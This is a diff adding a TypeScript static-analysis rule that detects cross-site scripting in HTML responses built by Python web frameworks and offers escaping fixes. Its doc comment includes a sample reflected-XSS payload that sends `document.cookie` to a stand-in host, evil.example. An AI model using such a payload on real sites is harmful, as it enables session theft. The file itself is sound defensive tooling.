@@ -1,0 +1,377 @@
+/**
+ * ## What it does
+ * Flags untrusted data written into an HTML response by Python code: a Flask or Quart view that
+ * returns a string (Flask serves it as `text/html`), `make_response(...)` and `flask.Response(...)`
+ * (HTML unless another `mimetype` is given), Django `HttpResponse(...)` (HTML by default), Starlette
+ * and FastAPI `HTMLResponse(...)` or `Response(..., media_type="text/html")`, aiohttp
+ * `web.Response(text=..., content_type="text/html")`, and `self.wfile.write(...)` in an
+ * `http.server.BaseHTTPRequestHandler`. Values escaped with `markupsafe.escape`, `html.escape`,
+ * Django's `escape`/`format_html` or cleaned with `bleach`/`nh3` are not reported, nor are numbers.
+ * JSON responses (`jsonify`, `JsonResponse`, `JSONResponse`), a FastAPI view returning a string (sent
+ * as JSON) and responses with a non-HTML content type are not HTML. A value of unknown origin is
+ * reported (at low confidence) only inside HTML built by formatting (`f"<p>{text}</p>"`).
+ *
+ * ## Why is this bad?
+ * Whatever the client sent becomes part of the page: `?q=<script>fetch("//evil.example?c="+document.cookie)</script>`
+ * runs in the browser of everyone who opens the link (reflected cross-site scripting), with their
+ * session. Templates escape values; HTML built in Python does not.
+ *
+ * ## Example
+ * ```python
+ * @app.route("/search")
+ * def search():
+ *     q = request.args.get("q", "")
+ *     return f"<h1>Results for {q}</h1>"
+ * ```
+ *
+ * ## Use instead
+ * ```python
+ * from markupsafe import escape
+ *
+ * @app.route("/search")
+ * def search():
+ *     q = request.args.get("q", "")
+ *     return f"<h1>Results for {escape(q)}</h1>"
+ * ```
+ * Better still, render a template (`render_template("search.html", q=q)`), which escapes every value.
+ * In Django use `django.utils.html.escape` or `format_html`; elsewhere `html.escape`.
+ *
+ * ## References
+ * - CWE-79: Improper Neutralization of Input During Web Page Generation ('Cross-site Scripting')
+ * - CWE-80: Improper Neutralization of Script-Related HTML Tags in a Web Page (Basic XSS)
+ * - OWASP Top 10 2021 A03: Injection
+ */
+import type { Node } from '../../parser/parser';
+import type { SemanticModel } from '../../semantic/model';
+import type { Hole } from '../../semantic/strings';
+import { ensureImported, ensureModuleImported } from '../../fixes/python';
+import { unsafeFix } from '../../fixes/fix';
+import {
+  argumentValue,
+  calledFunction,
+  constantString,
+  decoratorExpression,
+  keywordValue,
+  methodName,
+  positionalArgument,
+} from '../../semantic/calls';
+import type { Fix, Rule, RuleContext, TextEdit } from '../../ruleApi/types';
+import { describeFlow, flowSteps, judgeTaint, sinkLabelOf, type TaintVerdict } from '../shared';
+import { handlerRequestVerdict } from './httpServerHandler';
+
+type Escaper = 'markupsafe' | 'django' | 'html';
+
+interface Sink {
+  /** The value that becomes the body. */
+  value: Node;
+  /** The node whose position the flow ends at, and its label. */
+  at: Node;
+  label: string;
+  escaper: Escaper;
+}
+
+/** Response classes that serve HTML unless told otherwise, with the keyword of their body and content type. */
+const htmlByDefault: ReadonlyMap<string, { body: string; type: string[]; escaper: Escaper }> = new Map([
+  ['flask.make_response', { body: '', type: [], escaper: 'markupsafe' }],
+  ['quart.make_response', { body: '', type: [], escaper: 'markupsafe' }],
+  ['flask.Response', { body: 'response', type: ['mimetype', 'content_type'], escaper: 'markupsafe' }],
+  ['flask.wrappers.Response', { body: 'response', type: ['mimetype', 'content_type'], escaper: 'markupsafe' }],
+  ['quart.Response', { body: 'response', type: ['mimetype', 'content_type'], escaper: 'markupsafe' }],
+  ['django.http.HttpResponse', { body: 'content', type: ['content_type'], escaper: 'django' }],
+  ['django.http.response.HttpResponse', { body: 'content', type: ['content_type'], escaper: 'django' }],
+  ['django.http.HttpResponseBadRequest', { body: 'content', type: ['content_type'], escaper: 'django' }],
+  ['django.http.HttpResponseNotFound', { body: 'content', type: ['content_type'], escaper: 'django' }],
+  ['django.http.HttpResponseForbidden', { body: 'content', type: ['content_type'], escaper: 'django' }],
+  ['django.http.HttpResponseServerError', { body: 'content', type: ['content_type'], escaper: 'django' }],
+  ['starlette.responses.HTMLResponse', { body: 'content', type: [], escaper: 'html' }],
+  ['fastapi.responses.HTMLResponse', { body: 'content', type: [], escaper: 'html' }],
+]);
+
+/** Response classes that serve HTML only when their content type says so. */
+const htmlWhenTyped: ReadonlyMap<string, { body: string[]; type: string[]; escaper: Escaper }> = new Map([
+  ['werkzeug.wrappers.Response', { body: ['response'], type: ['mimetype', 'content_type'], escaper: 'markupsafe' }],
+  ['werkzeug.Response', { body: ['response'], type: ['mimetype', 'content_type'], escaper: 'markupsafe' }],
+  ['starlette.responses.Response', { body: ['content'], type: ['media_type'], escaper: 'html' }],
+  ['fastapi.responses.Response', { body: ['content'], type: ['media_type'], escaper: 'html' }],
+  ['fastapi.Response', { body: ['content'], type: ['media_type'], escaper: 'html' }],
+  ['aiohttp.web.Response', { body: ['text', 'body'], type: ['content_type'], escaper: 'html' }],
+  ['aiohttp.web_response.Response', { body: ['text', 'body'], type: ['content_type'], escaper: 'html' }],
+]);
+
+/** Calls a Flask view returns that are not an HTML body written in Python. */
+const notHtmlCalls =
+  /^(?:flask|quart)\.(?:jsonify|render_template|render_template_string|redirect|send_file|send_from_directory|abort|url_for|stream_template|Response|make_response)$|^json\.dumps$/;
+
+const handlerBases = /(?:^|\.)(?:BaseHTTPRequestHandler|SimpleHTTPRequestHandler|CGIHTTPRequestHandler)$/;
+
+/** What the content type argument says: html, another type, or nothing known. */
+function contentType(model: SemanticModel, call: Node, keywords: readonly string[]): 'html' | 'other' | 'unset' {
+  for (const keyword of keywords) {
+    const value = keywordValue(call, keyword);
+    if (!value) continue;
+    const text = constantString(model, value);
+    if (text === undefined) return 'other';
+    return /html/i.test(text) ? 'html' : 'other';
+  }
+  return 'unset';
+}
+
+function sinkOfCall(call: Node, model: SemanticModel): Sink | undefined {
+  const callee = model.calleeName(call);
+  if (!callee) return undefined;
+  const label = sinkLabelOf(call);
+  const byDefault = htmlByDefault.get(callee);
+  if (byDefault) {
+    if (contentType(model, call, byDefault.type) === 'other') return undefined;
+    const value = byDefault.body ? argumentValue(call, 0, byDefault.body) : positionalArgument(call, 0);
+    return value ? { value, at: call, label, escaper: byDefault.escaper } : undefined;
+  }
+  const typed = htmlWhenTyped.get(callee);
+  if (typed) {
+    if (contentType(model, call, typed.type) !== 'html') return undefined;
+    const value = callee.startsWith('aiohttp')
+      ? (keywordValue(call, 'text') ?? keywordValue(call, 'body'))
+      : argumentValue(call, 0, typed.body[0]);
+    return value ? { value, at: call, label, escaper: typed.escaper } : undefined;
+  }
+  return undefined;
+}
+
+/** True for an expression a Flask view may return as a text body: strings, names and reads, not dicts or responses. */
+function mayBeText(model: SemanticModel, node: Node, depth = 0): boolean {
+  if (depth > 4) return false;
+  switch (node.type) {
+    case 'string':
+    case 'concatenated_string':
+    case 'binary_operator':
+    case 'subscript':
+    case 'attribute':
+      return true;
+    case 'parenthesized_expression':
+      return !!node.namedChildren[0] && mayBeText(model, node.namedChildren[0], depth + 1);
+    case 'conditional_expression':
+      return node.namedChildren.some(
+        (child) => !!child && child.type !== 'comparison_operator' && mayBeText(model, child, depth + 1),
+      );
+    case 'identifier': {
+      const value = model.assignedValue(node);
+      return value ? mayBeText(model, value, depth + 1) : model.stringShape(node).isString;
+    }
+    case 'call': {
+      const callee = model.calleeName(node);
+      if (callee && notHtmlCalls.test(callee)) return false;
+      if (callee === 'builtins.str') return true;
+      if (model.stringShape(node).isString) return true;
+      return ['get', 'format', 'join', 'replace', 'strip', 'lower', 'upper', 'decode'].includes(methodName(node) ?? '');
+    }
+    default:
+      return false;
+  }
+}
+
+/** The Flask or Quart application (or blueprint) a view is registered on, by its decorators. */
+function isFlaskView(definition: Node, model: SemanticModel): boolean {
+  if (![...model.importedModules].some((m) => /^(?:flask|quart)(?:\.|$)/.test(m))) return false;
+  if ([...model.importedModules].some((m) => /^(?:fastapi|starlette)(?:\.|$)/.test(m))) return false;
+  for (const decorator of definition.namedChildren) {
+    if (decorator?.type !== 'decorator') continue;
+    const expression = decoratorExpression(decorator);
+    if (expression?.type !== 'call') continue;
+    const fn = calledFunction(expression);
+    if (fn?.type !== 'attribute') continue;
+    if (!['route', 'get', 'post', 'put', 'patch', 'delete'].includes(fn.childForFieldName('attribute')?.text ?? ''))
+      continue;
+    // An app imported from another module of the project (`from .app import app`) counts; a client does not.
+    const receiver = model.resolvedPath(fn.childForFieldName('object'));
+    if (receiver && /^(?:requests|httpx|aiohttp|fastapi|starlette|urllib)\b/.test(receiver)) continue;
+    return true;
+  }
+  return false;
+}
+
+/** Return statements of a function body, not those of functions nested in it. */
+function returnsOf(body: Node): Node[] {
+  const found: Node[] = [];
+  const walk = (node: Node) => {
+    for (const child of node.namedChildren) {
+      if (!child) continue;
+      if (child.type === 'function_definition' || child.type === 'class_definition' || child.type === 'lambda')
+        continue;
+      if (child.type === 'return_statement') found.push(child);
+      else walk(child);
+    }
+  };
+  walk(body);
+  return found;
+}
+
+/** `self.wfile.write(...)` calls in a class, not in nested classes. */
+function wfileWrites(body: Node): Node[] {
+  const found: Node[] = [];
+  const walk = (node: Node) => {
+    for (const child of node.namedChildren) {
+      if (!child || child.type === 'class_definition') continue;
+      if (child.type === 'call' && methodName(child) === 'write') {
+        const receiver = calledFunction(child)!.childForFieldName('object');
+        if (receiver?.type === 'attribute' && receiver.text.replace(/\s/g, '') === 'self.wfile') found.push(child);
+      }
+      walk(child);
+    }
+  };
+  walk(body);
+  return found;
+}
+
+const escapers: Record<Escaper, { module: string; call: (text: string, isText: boolean) => string; label: string }> = {
+  markupsafe: { module: 'markupsafe', call: (text) => `escape(${text})`, label: 'markupsafe.escape' },
+  django: { module: 'django.utils.html', call: (text) => `escape(${text})`, label: 'django.utils.html.escape' },
+  html: {
+    module: 'html',
+    call: (text, isText) => `html.escape(${isText ? text : `str(${text})`})`,
+    label: 'html.escape',
+  },
+};
+
+/** Sources whose values are text (not bytes, not objects), so escaping the whole value keeps its type. */
+const textSources =
+  /^(?:request\.(?:args|form|values|GET|POST|COOKIES|cookies|headers|query_params|path_params|match_info|query|view_args|rel_url)|route parameter)/;
+
+/** The fix: the escaping function around each value spliced into the HTML, or around the whole value. */
+function escapeFix(context: RuleContext, sink: Sink, verdict: TaintVerdict): { fix?: Fix; fixUnavailable?: string } {
+  const model = context.model;
+  const escaper = escapers[sink.escaper];
+  const imports =
+    sink.escaper === 'html'
+      ? ensureModuleImported(model, 'html', sink.at)
+      : ensureImported(model, escaper.module, 'escape', sink.at);
+  if (!imports)
+    return {
+      fixUnavailable: `the name \`${sink.escaper === 'html' ? 'html' : 'escape'}\` is already used for something else in this file`,
+    };
+  const shape = model.stringShape(sink.value);
+  const edits: TextEdit[] = [];
+  if (shape.isString && shape.holes.length > 0) {
+    if (!shape.exact) return { fixUnavailable: 'the HTML is built in a way the fix cannot rewrite' };
+    const seen = new Set<number>();
+    for (const hole of shape.holes) {
+      if (model.taintOf(hole.expression, 'html').level === 'constant' || seen.has(hole.expression.id)) continue;
+      seen.add(hole.expression.id);
+      const why = unescapable(hole);
+      if (why) return { fixUnavailable: why };
+      const isText = model.stringShape(hole.expression).isString || hole.via === 'concat';
+      edits.push({
+        start: hole.expression.startIndex,
+        end: hole.expression.endIndex,
+        newText: escaper.call(hole.expression.text, isText),
+      });
+    }
+  } else if (!shape.isString) {
+    const label = verdict.taint.source?.label ?? '';
+    if (verdict.taint.level !== 'tainted' || !textSources.test(label) || sink.value.id !== verdict.culprit.id)
+      return { fixUnavailable: 'the value may not be text (bytes or an object), so escaping it could change its type' };
+    edits.push({
+      start: sink.value.startIndex,
+      end: sink.value.endIndex,
+      newText: escaper.call(sink.value.text, true),
+    });
+  }
+  if (edits.length === 0) return { fixUnavailable: 'no value spliced into the HTML can be escaped here' };
+  return {
+    fix: unsafeFix(`Escape the values with ${escaper.label}`, 'markup in the values is shown as text', [
+      ...imports.edits,
+      ...edits,
+    ]),
+  };
+}
+
+/** Why a hole cannot be wrapped in an escaping call: a format spec or conversion that needs the original type. */
+function unescapable(hole: Hole): string | undefined {
+  if (hole.formatted || (hole.conversion && hole.conversion !== 's'))
+    return 'a value is formatted with a conversion or format spec that escaping would break';
+  if (hole.via === 'join') return 'the values are joined from a list the fix cannot rewrite';
+  if (hole.expression.parent?.type === 'keyword_argument') return 'the value is passed by keyword to `.format()`';
+  return undefined;
+}
+
+function check(context: RuleContext, sink: Sink): void {
+  let verdict = judgeTaint(context, 'html', [sink.value]);
+  if (!verdict) return;
+  if (sink.label === 'self.wfile.write') verdict = handlerRequestVerdict(context.model, sink.value, verdict) ?? verdict;
+  // Unknown origin: only HTML built by formatting is worth a hint.
+  if (verdict.taint.level !== 'tainted' && !builtHtml(context.model, sink.value)) return;
+  const { fix, fixUnavailable } = escapeFix(context, sink, verdict);
+  const lead =
+    verdict.taint.level === 'tainted'
+      ? `${describeFlow(verdict, sink.label)}, which serves it as HTML`
+      : `HTML built from a value that is not escaped reaches \`${sink.label}\``;
+  context.report({
+    node: sink.value,
+    message: `${lead}: markup in it runs in the visitor's browser (cross-site scripting). Escape the values (\`${escapers[sink.escaper].label}\`) or render a template.`,
+    confidence: verdict.confidence,
+    severity: verdict.severity,
+    flow: flowSteps(verdict, sink.at, sink.label),
+    fix,
+    fixUnavailable,
+  });
+}
+
+/** A string built by formatting whose literal text has a tag: HTML assembled in Python. */
+function builtHtml(model: SemanticModel, value: Node): boolean {
+  const shape = model.stringShape(value);
+  return shape.isString && shape.holes.length > 0 && /<[a-zA-Z!/]/.test(shape.template(''));
+}
+
+export const htmlResponseXss: Rule = {
+  meta: {
+    id: 'PSG614',
+    name: 'html-response-xss',
+    title: 'Untrusted data in an HTML response built in Python',
+    defaultSeverity: 'error',
+    cwe: 79,
+    owasp: 'A03:2021-Injection',
+    checklistItem: 'html-escaped',
+    bandit: [],
+    ruff: [],
+    fixable: true,
+    fixes: [
+      {
+        title: 'Escape the values with <escaping function>',
+        applicability: 'unsafe',
+        why: 'The page shows `<`, `>`, `&` and quotes in the values as text instead of markup: the bytes sent change, and HTML a value was meant to carry is no longer rendered.',
+      },
+    ],
+  },
+  triggers: ['return', 'Response', 'make_response', 'wfile'],
+  visitors: {
+    call(call, context) {
+      const sink = sinkOfCall(call, context.model);
+      if (sink) check(context, sink);
+    },
+    decorated_definition(definition, context) {
+      const fn = definition.childForFieldName('definition');
+      if (fn?.type !== 'function_definition' || !isFlaskView(definition, context.model)) return;
+      const body = fn.childForFieldName('body');
+      if (!body) return;
+      for (const statement of returnsOf(body)) {
+        let value = statement.namedChildren[0];
+        if (value?.type === 'tuple' || value?.type === 'expression_list') value = value.namedChildren[0];
+        if (!value || !mayBeText(context.model, value)) continue;
+        check(context, { value, at: statement, label: 'return', escaper: 'markupsafe' });
+      }
+    },
+    class_definition(definition, context) {
+      const bases = definition.childForFieldName('superclasses');
+      if (!bases?.namedChildren.some((base) => !!base && handlerBases.test(context.model.qualifiedName(base) ?? '')))
+        return;
+      const body = definition.childForFieldName('body');
+      if (!body) return;
+      for (const write of wfileWrites(body)) {
+        let value = argumentValue(write, 0, 'b');
+        // `"...".encode()`: the text is what was built.
+        if (value?.type === 'call' && methodName(value) === 'encode')
+          value = calledFunction(value)!.childForFieldName('object') ?? undefined;
+        if (value) check(context, { value, at: write, label: 'self.wfile.write', escaper: 'html' });
+      }
+    },
+  },
+};
